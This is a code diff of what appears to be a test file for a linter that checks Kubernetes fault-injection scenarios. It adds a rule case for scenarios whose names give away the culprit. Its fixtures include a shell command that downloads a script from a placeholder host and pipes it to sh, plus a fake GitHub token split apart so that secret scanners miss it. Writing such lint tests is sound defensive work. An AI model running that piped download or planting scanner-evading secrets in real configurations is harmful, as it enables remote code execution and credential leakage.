@@ -56,6 +56,13 @@ def telling_parameter(spec: Spec) -> None:
     )
 
 
+def hint_by_parameter(spec: Spec) -> None:
+    """A name of the scenario's own, which a fault gives to a container that says it again and again."""
+    telling_parameter(spec)
+    fault = {"type": "init-container-dependency-missing", "parameters": {"serviceName": "culprit-cart"}}
+    spec["faults"][-1].update(fault)
+
+
 #: A token of a form that only real ones have, put together here so that no scanner finds it in this file.
 TOKEN = "ghp_" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6"
 
@@ -73,6 +80,7 @@ VIOLATIONS: dict[str, Callable[[Spec], Any]] = {
     "SK215": decoy(pod(containers=[{"name": "main", "image": "busybox:stable"}])),
     "SK219": decoy(pod(containers=container(command=["sh", "-c", "date"]))),
     "SK220": decoy(role("Role", metadata={"name": "viewer", "finalizers": ["example.com/kept"]}, rules=[])),
+    "SK221": hint_by_parameter,
     "SK608": lambda s: s.update(suspend=True),
 }
 
@@ -189,7 +197,7 @@ FAULTS: dict[str, list[Edit]] = {
         Put(("scope",), "Cluster"),
     ],
     "SK204": [Put((*MAIN, "command"), ["sh", "-c", "wget https://example.com/flood.sh -O- | sh"])],
-    "SK206": [Put((*MAIN, "env"), [{"name": "A", "value": TOKEN}])],
+    "SK206": [Put((*MAIN, "env"), [{"name": "PGPASSWORD", "value": TOKEN}])],
     "SK208": [Put(("effect", 0, "withinSeconds"), 3600)],
     "SK209": created(
         apiVersion="networking.k8s.io/v1",
@@ -205,12 +213,13 @@ FAULTS: dict[str, list[Edit]] = {
     "SK214": [Put((*MAIN, "command"), ["sh", "-c", "sleep $((RANDOM % 60)); sleep $RANDOM"])],
     "SK215": [Put((*MAIN, "image"), "busybox:stable")],
     "SK220": [Put((*CREATE, "metadata", "finalizers"), ["example.com/kept"])],
+    "SK221": [Put((*CREATE, "metadata", "annotations"), {"ops/culprit": "yes"})],
     "SK413": [Put(("solutions", 0, "changes", 0), {"removeFault": {"fault": "{{ fault }}"}})],
     "SK414": [Drop(("mitigation",))],
     "SK304": [Put(("changes", 1, "patch", "patch"), {"spec": {"selector": "{{ object.spec.selector }}"}})],
 }
 #: What `lint --fix` corrects in a fault: all of these whose rule says that it does.
-REPAIRED = ("SK003", "SK201", "SK202", "SK208", "SK209", "SK210", "SK215")
+REPAIRED = ("SK003", "SK201", "SK202", "SK208", "SK209", "SK210", "SK215", "SK221")
 #: What it corrects in scenarios, or in what the catalogue has; each shown by a test of its own.
 REPAIRED_APART = ("SK139", "SK212", "SK214", "SK218")
 
